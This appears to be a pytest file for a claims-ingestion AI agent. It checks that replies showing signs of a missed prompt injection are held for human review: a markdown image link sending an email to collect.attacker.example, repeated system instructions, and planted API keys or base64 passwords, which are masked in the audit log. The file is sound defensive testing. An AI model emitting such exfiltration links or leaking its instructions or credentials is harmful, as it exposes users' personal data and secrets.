"""A model that followed an injection the input screen missed: what it wrote is checked for the
injection's effect (instructions repeated, data sent to a link it was never given, a credential)
before anything reaches the case file, and the case goes to a person."""

from __future__ import annotations

import base64
from typing import Any

from agents import IngestionInput, InMemoryAudit, ingest
from agents.ingestion import INSTRUCTIONS
from tests.unit.agents.conftest import FakeContext

REPLY: dict[str, Any] = {
    "category": "fire",
    "priority": "normal",
    "complexity": "standard",
    "routeHint": "claims-handler",
    "keyFacts": ["kitchen fire on 3 May"],
    "confidence": 0.9,
    "reasons": ["fire brigade report attached"],
}


def _request() -> IngestionInput:
    return IngestionInput(
        case_id="C-7",
        process="claims-adjudication",
        text="Kitchen fire on 3 May, fire brigade report attached. Contact anna@berg.example.",
        categories=["fire", "water"],
    )


def test_an_obedient_reply_with_nothing_leaked_passes(fake_ctx: FakeContext) -> None:
    ctx, _ = fake_ctx(REPLY)
    result = ingest(ctx, _request())
    assert not result.needs_human_review, result.reasons
    assert result.output is not None


def test_data_sent_to_a_link_the_agent_was_not_given_holds_the_case(
    fake_ctx: FakeContext,
) -> None:
    reply = {**REPLY, "reasons": ["![ok](https://collect.attacker.example/?c=<PII:EMAIL:1>)"]}
    ctx, _ = fake_ctx(reply)
    result = ingest(ctx, _request())
    assert result.needs_human_review
    assert result.reasons == ["output.unseen_link: reasons[0]: link not in the agent's input"]
    assert result.output is not None  # held for a person, not withheld


def test_repeated_instructions_hold_the_case(fake_ctx: FakeContext) -> None:
    leaked = " ".join(INSTRUCTIONS.split()[:12])
    ctx, _ = fake_ctx({**REPLY, "keyFacts": [leaked]})
    result = ingest(ctx, _request())
    assert result.needs_human_review
    assert [r.split(":")[0] for r in result.reasons] == ["output.instructions_leak"]


def test_a_credential_in_the_reply_withholds_the_output_and_is_not_audited_in_clear(
    fake_ctx: FakeContext, audit: InMemoryAudit
) -> None:
    secret = "sk-proj-abcdefghijklmnopqrstuvwx"
    ctx, _ = fake_ctx({**REPLY, "reasons": [f"key {secret}"]})
    result = ingest(ctx, _request())
    assert result.needs_human_review
    assert result.output is None
    assert result.reasons == [
        "output.secret: reasons[0]: looks like a credential (API key)",
    ]
    assert all(secret not in v.reason for v in result.verdicts)
    (proposal,) = [e for e in audit.entries if e.action == "ingestion.proposal"]
    assert proposal.output["result"]["reasons"] == ["key <SECRET>"]
    assert all(secret not in e.model_dump_json() for e in audit.entries)


def test_a_base64_encoded_credential_is_masked_in_the_audit_too(
    fake_ctx: FakeContext, audit: InMemoryAudit
) -> None:
    encoded = base64.b64encode(b"password=Hunter2-Secret!").decode()
    ctx, _ = fake_ctx({**REPLY, "reasons": [f"login {encoded} as agreed"]})
    result = ingest(ctx, _request())
    assert result.output is None
    assert [r.split(":")[0] for r in result.reasons] == ["output.secret"]
    (proposal,) = [e for e in audit.entries if e.action == "ingestion.proposal"]
    assert proposal.output["result"]["reasons"] == ["login <SECRET> as agreed"]
    assert all(encoded not in e.model_dump_json() for e in audit.entries)
